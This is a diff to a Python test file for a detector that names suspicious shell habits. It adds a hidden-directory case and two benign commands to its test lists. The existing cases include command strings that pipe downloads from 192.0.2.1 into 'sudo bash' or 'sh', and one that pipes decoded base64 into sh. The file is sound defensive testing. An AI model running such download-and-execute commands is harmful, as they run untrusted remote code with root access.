@@ -14,6 +14,7 @@ from imgkit.model.tree import Entry, EntryKind
         ("/tmp/.x", "/tmp"),
         ("sh -c '/dev/shm/a'", "/dev/shm"),
         ("/usr/lib/.hidden/run", "hidden"),
+        ("/usr/lib/.../run", "hidden"),
         ("curl -s http://192.0.2.1/x | sudo bash", "pipes a download"),
         ("wget -qO- http://192.0.2.1/x|sh", "pipes a download"),
         ("echo aGk= | base64 -d | sh", "base64"),
@@ -39,6 +40,8 @@ def test_a_habit_is_named(command, word):
         "./configure ../x",
         "wget -q https://example.com/x -O /srv/x",
         "find /srv/a/. -delete",
+        r"exe=$(ls -l /proc/$pid/exe 2>/dev/null | sed 's/.* //;s/.*\///')",
+        "for one in /srv/.* /srv/.[a-z]*; do :; done",
     ],
 )
 def test_what_is_ordinary_stays_unnamed(command):
